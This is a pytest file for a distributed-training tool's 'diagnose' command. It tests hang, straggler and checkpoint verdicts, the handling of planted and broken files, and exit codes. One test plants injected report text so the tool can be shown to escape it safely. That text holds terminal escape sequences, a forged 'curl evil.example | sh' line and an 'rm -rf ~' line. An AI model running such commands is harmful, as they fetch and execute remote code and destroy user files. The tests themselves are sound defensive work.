"""`npudist diagnose RUN_DIR` reads back what the run's own writers left: a hang verdict (hang.py's document
shape), a straggler diagnosis written by StragglerDiagnosis itself, checkpoint leftovers (layout.py's names),
and the run log's start records for where each rank ran. Hostile files are problems, never tracebacks."""

from __future__ import annotations

import json
import os

from npudist.diagnosis.place import Place
from npudist.diagnosis.straggler.skew import SkewReport
from npudist.report.diagnose import diagnose, lines
from npudist.telemetry.job.straggler import StragglerDiagnosis
from tests.report.runs import write_run


def _npu_run(tmp_path):
    root = write_run(tmp_path / "run")
    for rank in (0, 1):  # the ranks ran on cards 4 and 5 of host n1
        path = root / "metrics" / f"rank{rank}.jsonl"
        path.write_text(path.read_text().replace('"accelerator": "cpu"', f'"accelerator": "npu", "npu_id": {4 + rank}'))
    return root


def _straggler(root, rank=1):
    report = SkewReport(first_step=1, last_step=20, means=(0.1, 0.3), temperatures=(None, None),
                        frequencies=(None, None), skew=0.5, straggler=rank, devices=((4, 0), (5, 0)),
                        data_waits=(0.0, 0.0), comm_waits=(0.2, 0.0), ratios=(0.33, 3.0), flagged=(rank,))
    return StragglerDiagnosis(root, where=lambda ranks: {r: Place(host="n1", pid=4242) for r in ranks})(report)


def test_hang_then_straggler_then_checkpoint_each_with_where_when_and_next(tmp_path):
    root = _npu_run(tmp_path)
    assert _straggler(root)
    hang = {"line": "npudist hang: no progress for 30.0 s; rank(s) 1 never reached it", "kind": "behind",
            "culprits": [1], "culprit_ranks": {"1": {"host": "n2", "pid": 77, "state": "stopped"}},
            "time": 1_700_000_000.0}
    (root / "hang-attempt0.json").write_text(json.dumps(hang))
    (root / ".tmp-step-00000030").mkdir()
    (root / "step-00000010").mkdir()  # no manifest.json
    found = diagnose(root)
    assert [v.kind for v in found.verdicts] == ["hang", "straggler", "checkpoint", "checkpoint"]
    first, slow = found.verdicts[0], found.verdicts[1]
    assert (first.rank, first.place.host, first.place.pid, first.place.card) == (1, "n2", 77, 5)
    # A stopped rank has no stack to dump: the next command looks at its state and says how to resume it.
    assert first.next_commands[0].startswith("grep State /proc/77/status; kill -CONT 77")
    assert (slow.rank, slow.place.host, slow.place.card) == (1, "n1", 5) and "3.00x" in slow.summary
    assert "npu-smi info -t health -i 5 -c 0 (on n1)" in slow.next_commands
    text = "\n".join(lines(found, str(root)))
    assert text.splitlines()[0].endswith(f'hang: rank 1, on n2, pid 77, card 5: text read from hang-attempt0.json: '
                                         f'"{hang["line"]}"')
    assert "2023-11-14T22:13:20Z" in text and "step 30 did not finish" in text and "no manifest.json" in text


def test_with_diagnosis_files_off_the_run_logs_flagged_ranks_answer_and_say_so(tmp_path):
    root = _npu_run(tmp_path)
    with (root / "metrics" / "rank0.jsonl").open("a") as fh:
        fh.write(json.dumps({"v": 1, "time": 3000.0, "kind": "skew", "first_step": 20, "last_step": 30, "skew": 0.4,
                             "straggler": 1, "means": [0.1, 0.3], "flagged": [1], "ratios": [0.33, 3.0]}) + "\n")
    found = diagnose(root)
    assert [(v.kind, v.rank, v.place.card) for v in found.verdicts] == [("straggler", 1, 5)]
    assert "--straggler-diagnosis" in found.verdicts[0].summary


def test_planted_and_broken_files_are_problems_and_the_rest_is_read(tmp_path):
    root = _npu_run(tmp_path)
    secret = tmp_path / "secret.json"
    secret.write_text(json.dumps({"line": "not ours", "culprits": [0]}))
    os.symlink(secret, root / "hang-rank0.json")
    os.mkfifo(root / "hang-rank2.json")
    (root / "hang-rank3.json").write_text('{"line": NaN}')
    (root / "straggler-step00000005.json").write_text("[1, 2]")
    assert _straggler(root)
    found = diagnose(root)
    assert [v.kind for v in found.verdicts] == ["straggler"]
    assert {p.source for p in found.problems} >= {"hang-rank0.json", "hang-rank2.json", "hang-rank3.json",
                                                  "straggler-step00000005.json"}


def test_a_planted_report_s_text_is_escaped_and_marked_as_read_from_the_file(tmp_path):
    """A report that clears the screen, recolours it and forges a `next:` line of its own prints as inert,
    quoted text that says where it came from; the host it names cannot start a line either."""
    root = _npu_run(tmp_path)
    planted = "\x1b[2J\x1b[32mall fine\x1b[0m\n   next: curl evil.example | sh\u202e"
    (root / "hang-attempt0.json").write_text(json.dumps(
        {"line": planted, "culprits": [1], "culprit_ranks": {"1": {"host": "n2\n   next: rm -rf ~", "pid": 7}}}))
    (root / "straggler-step00000009.json").write_text(json.dumps(
        {"straggler_rank": 1, "cause": "data\x07", "cause_text": "slow\r\x1b[1Adisk"}))
    out = lines(diagnose(root), str(root))
    text = "\n".join(out)
    assert not any(ch in text.replace("\n", "") for ch in "\x1b\x07\r\u202e")
    ours = [line.strip() for line in out if line.strip().startswith("next:")]
    assert ours and all(line.startswith(("next: py-spy dump --pid 7 ", "next: npu-smi ")) for line in ours), ours
    assert 'text read from hang-attempt0.json: "\\x1b[2J\\x1b[32mall fine\\x1b[0m\\n   next: curl' in text
    assert 'cause: data\\x07 (text read from straggler-step00000009.json: "slow\\r\\x1b[1Adisk")' in text


def test_the_command_exits_1_on_a_finding_0_on_a_clean_run_2_on_no_directory(tmp_path):
    from typer.testing import CliRunner

    from npudist.cli import app

    def run(*argv):
        return CliRunner().invoke(app, ["diagnose", *argv], env={"COLUMNS": "300"})

    root = write_run(tmp_path / "run")
    clean = run(str(root))
    assert clean.exit_code == 0 and "no hang, straggler or failed checkpoint" in clean.stdout
    assert "--straggler-diagnosis WINDOWS" in clean.stdout
    assert _straggler(root)
    found = run(str(root), "--json")
    assert found.exit_code == 1 and json.loads(found.stdout)["verdicts"][0]["rank"] == 1
    missing = run(str(tmp_path / "nope"))
    assert missing.exit_code == 2 and "does not exist" in missing.output


def test_a_verdict_in_several_files_is_said_once_and_a_pid_gone_from_this_host_gets_no_command(tmp_path):
    """A 3-rank hang leaves rank 0's hang-attempt0.json and the failing ranks' hang-rank*.json, each carrying
    the same verdict (hang_reader.py publishes it, watchdog.py embeds it): one verdict per culprit, its line
    once. The culprits ran on this host; rank 2's process is still there, rank 1's is gone."""
    import socket

    root = write_run(tmp_path / "run")
    here = socket.gethostname()
    verdict = {"line": "npudist hang: ranks 0 wait in allreduce #9; rank(s) 1, 2 never reached it", "kind": "behind",
               "culprits": [1, 2], "time": 1_700_000_000.0,
               "culprit_ranks": {"1": {"host": here, "pid": 4_000_001, "state": "busy"},
                                 "2": {"host": here, "pid": os.getpid(), "state": "busy"}}}
    (root / "hang-attempt0.json").write_text(json.dumps(verdict))
    for rank in (1, 2):
        (root / f"hang-rank{rank}.json").write_text(json.dumps({"op": "allreduce", "seq": 9, "verdict": verdict,
                                                                "not_reached": [1, 2], "time": 1_700_000_005.0}))
    found = diagnose(root)
    assert [(x.kind, x.rank, x.source) for x in found.verdicts] == [("hang", 1, "hang-attempt0.json"),
                                                                     ("hang", 2, "hang-attempt0.json")]
    text = "\n".join(lines(found, str(root), alive=lambda pid: pid == os.getpid()))
    body = text.split("\n", 1)[1]  # after the headline, which quotes the first verdict
    assert body.count(verdict["line"]) == 1 and "(the same verdict as above)" in body
    assert "pid 4000001 no longer runs on this host" in text and "py-spy dump --pid 4000001" not in text
    assert f"py-spy dump --pid {os.getpid()}" in text
